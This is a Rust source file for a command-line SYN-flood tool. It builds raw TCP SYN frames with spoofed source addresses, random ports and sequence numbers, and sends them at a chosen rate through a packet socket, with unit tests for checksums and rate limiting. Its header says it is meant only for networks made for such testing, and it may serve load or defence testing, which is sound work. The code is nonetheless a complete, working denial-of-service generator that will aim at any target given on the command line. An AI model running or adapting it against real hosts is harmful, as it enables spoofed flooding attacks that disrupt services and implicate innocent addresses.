//! A flood of SYNs from addresses that nobody has.
//!
//! In:    an interface, a target, a network to invent sources from; how long, how many, how fast
//! Out:   SYNs as Linux sends them, each from another source, port and sequence number; at the end, how many
//! Owns:  one packet socket
//! Never: answers anything; runs without an end
//! Read:  RFC 4987, section 2
//!
//! Where the answers go is up to the network: route the sources to where they vanish without a word, or routers answer
//! them with ICMP and hosts with RSTs. Only for networks that were made for it.

use std::fmt;
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::str::FromStr;
use std::thread;
use std::time::{Duration, Instant};

use clap::Parser;

use crate::frame_sender::FrameSender;

/// Frames given to the kernel at a time.
const BATCH: usize = 64;
const ETHERNET: usize = 14;
const IP: usize = 20;
/// With the options of a Linux client: MSS, SACK, timestamps, window scale.
const TCP: usize = 40;
const FRAME: usize = ETHERNET + IP + TCP;

/// Sends SYNs with invented sources out of an interface, and says how many.
#[derive(Clone, Debug, Parser)]
#[command(name = "syn-flood")]
pub struct Options {
    /// Interface to send from
    #[arg(long)]
    pub interface: String,
    /// Address and port that the SYNs are for
    #[arg(long)]
    pub target: SocketAddrV4,
    /// Link-layer address of the target, or of the router to it
    #[arg(long)]
    pub mac: Mac,
    /// Network that the sources are from
    #[arg(long, default_value = "198.18.0.0/15")]
    pub sources: Network,
    /// SYNs per second; 0 is as many as the kernel takes
    #[arg(long, default_value_t = 0)]
    pub rate: u64,
    /// Ends after so many seconds
    #[arg(long, default_value_t = 10)]
    pub seconds: u64,
    /// Ends after so many SYNs
    #[arg(long, default_value_t = u64::MAX)]
    pub count: u64,
}

/// A link-layer address.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Mac([u8; 6]);

impl FromStr for Mac {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let octets: Option<Vec<u8>> =
            text.split(':').map(|octet| u8::from_str_radix(octet, 16).ok()).collect();
        let octets = octets.and_then(|octets| octets.try_into().ok());
        octets.map(Mac).ok_or_else(|| format!("'{text}' is not like 02:00:00:00:00:01"))
    }
}

/// A network of IPv4.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Network {
    first: u32,
    /// Bits that vary.
    host_mask: u32,
}

impl FromStr for Network {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let parsed = text.split_once('/').and_then(|(address, len)| {
            let (address, len): (Ipv4Addr, u32) = (address.parse().ok()?, len.parse().ok()?);
            let host_mask = u32::MAX.checked_shr(len).unwrap_or(0);
            (len <= 32).then_some(Network { first: u32::from(address) & !host_mask, host_mask })
        });
        parsed.ok_or_else(|| format!("'{text}' is not like 198.18.0.0/15"))
    }
}

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct Report {
    /// SYNs.
    pub sent: u64,
    /// How long it took.
    pub took: Duration,
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let seconds = self.took.as_secs_f64();
        let rate = self.sent as f64 / seconds.max(1e-9);
        write!(f, "syn-flood sent={} seconds={seconds:.2} rate={rate:.0}", self.sent)
    }
}

/// Sends until the time or the count is over.
pub fn run(options: &Options) -> io::Result<Report> {
    let mut sender = FrameSender::open(&options.interface, BATCH)?;
    let mut frames = vec![template(options); BATCH];
    let start = Instant::now();
    let limit = Duration::from_secs(options.seconds);
    let mut sent = 0;
    while start.elapsed() < limit && sent < options.count {
        let due = due(options, sent, start.elapsed());
        if due == 0 {
            thread::sleep(Duration::from_micros(100));
            continue;
        }
        let batch = &mut frames[..due];
        for (number, frame) in (sent..).zip(&mut *batch) {
            vary(frame, number, options.sources);
        }
        sent += sender.send(batch)? as u64;
    }
    Ok(Report { sent, took: start.elapsed() })
}

/// How many may be sent now, a batch at most.
fn due(options: &Options, sent: u64, elapsed: Duration) -> usize {
    let by_rate = match options.rate {
        0 => u64::MAX,
        rate => (elapsed.as_secs_f64() * rate as f64) as u64,
    };
    by_rate.min(options.count).saturating_sub(sent).min(BATCH as u64) as usize
}

/// A SYN without a source.
fn template(options: &Options) -> [u8; FRAME] {
    let mut frame = [0; FRAME];
    frame[..6].copy_from_slice(&options.mac.0);
    frame[6..12].copy_from_slice(&[2, 0, 0, 0, 0x5f, 0x10]);
    frame[12..14].copy_from_slice(&[0x08, 0x00]);
    let ip = &mut frame[ETHERNET..];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((IP + TCP) as u16).to_be_bytes());
    // Do not fragment; 64 hops; TCP.
    ip[6] = 0x40;
    (ip[8], ip[9]) = (64, 6);
    ip[16..20].copy_from_slice(&options.target.ip().octets());
    let tcp = &mut ip[IP..];
    tcp[2..4].copy_from_slice(&options.target.port().to_be_bytes());
    tcp[12] = (TCP as u8 / 4) << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64_240_u16.to_be_bytes());
    // MSS 1460, SACK permitted, timestamps, a gap, window scale 7.
    tcp[20..26].copy_from_slice(&[2, 4, 0x05, 0xb4, 4, 2]);
    tcp[26..28].copy_from_slice(&[8, 10]);
    tcp[36..40].copy_from_slice(&[1, 3, 3, 7]);
    frame
}

/// Makes it the SYN of that number.
fn vary(frame: &mut [u8; FRAME], number: u64, sources: Network) {
    let random = mix(number);
    let source = sources.first | (random as u32 & sources.host_mask);
    let port = 1024 + (random >> 32) as u16 % (u16::MAX - 1024);
    let (ip, tcp) = frame[ETHERNET..].split_at_mut(IP);
    ip[10..12].fill(0);
    ip[12..16].copy_from_slice(&source.to_be_bytes());
    let checksum = !folded(sum(ip));
    ip[10..12].copy_from_slice(&checksum.to_be_bytes());
    tcp[0..2].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&(mix(random) as u32).to_be_bytes());
    tcp[16..18].fill(0);
    tcp[28..32].copy_from_slice(&(number as u32).to_be_bytes());
    // The pseudo-header: both addresses, the protocol, the length.
    let checksum = !folded(sum(&ip[12..20]) + 6 + TCP as u32 + sum(tcp));
    tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
}

/// SplitMix64.
fn mix(number: u64) -> u64 {
    let z = number.wrapping_add(1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    let z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The sum of RFC 1071, not folded yet.
fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

fn folded(sum: u32) -> u16 {
    let once = (sum >> 16) + (sum & 0xffff);
    ((once >> 16) + (once & 0xffff)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    fn options() -> Options {
        Options::parse_from([
            "syn-flood",
            "--interface=eth0",
            "--target=10.77.0.1:80",
            "--mac=02:00:00:00:00:01",
            "--sources=198.18.0.0/15",
            "--rate=1000",
            "--count=500",
        ])
    }

    #[test]
    fn a_syn_has_good_checksums_and_a_source_of_the_network() {
        let mut frame = template(&options());
        let mut sources = std::collections::HashSet::new();
        for number in 0..1000 {
            vary(&mut frame, number, options().sources);
            let (ip, tcp) = frame[ETHERNET..].split_at(IP);
            assert_eq!(folded(sum(ip)), 0xffff, "IP, number {number}");
            let pseudo = sum(&ip[12..20]) + 6 + TCP as u32;
            assert_eq!(folded(pseudo + sum(tcp)), 0xffff, "TCP, number {number}");
            assert!(ip[12] == 198 && ip[13] & 0xfe == 18, "{:?}", &ip[12..16]);
            sources.insert((ip[12..16].to_vec(), tcp[..2].to_vec()));
        }
        assert_eq!(sources.len(), 1000);
    }

    #[test]
    fn keeps_to_the_rate_and_the_count() {
        let options = options();
        assert_eq!(due(&options, 0, Duration::ZERO), 0);
        assert_eq!(due(&options, 0, Duration::from_millis(10)), 10);
        assert_eq!(due(&options, 10, Duration::from_millis(10)), 0);
        assert_eq!(due(&options, 10, Duration::from_secs(9)), BATCH);
        assert_eq!(due(&options, 499, Duration::from_secs(9)), 1);
        assert_eq!(due(&Options { rate: 0, ..options }, 0, Duration::ZERO), BATCH);
    }

    #[test]
    fn reads_what_it_is_told() {
        assert_eq!("02:00:00:00:00:01".parse(), Ok(Mac([2, 0, 0, 0, 0, 1])));
        assert!("02:00:00:00:00".parse::<Mac>().is_err() && "x".parse::<Mac>().is_err());
        let all = Network { first: 0, host_mask: u32::MAX };
        assert_eq!("10.0.0.1/0".parse(), Ok(all));
        let one = Network { first: 0x0a00_0001, host_mask: 0 };
        assert_eq!("10.0.0.1/32".parse(), Ok(one));
        assert!(
            "10.0.0.0/33".parse::<Network>().is_err() && "10.0.0.0".parse::<Network>().is_err()
        );
    }
}
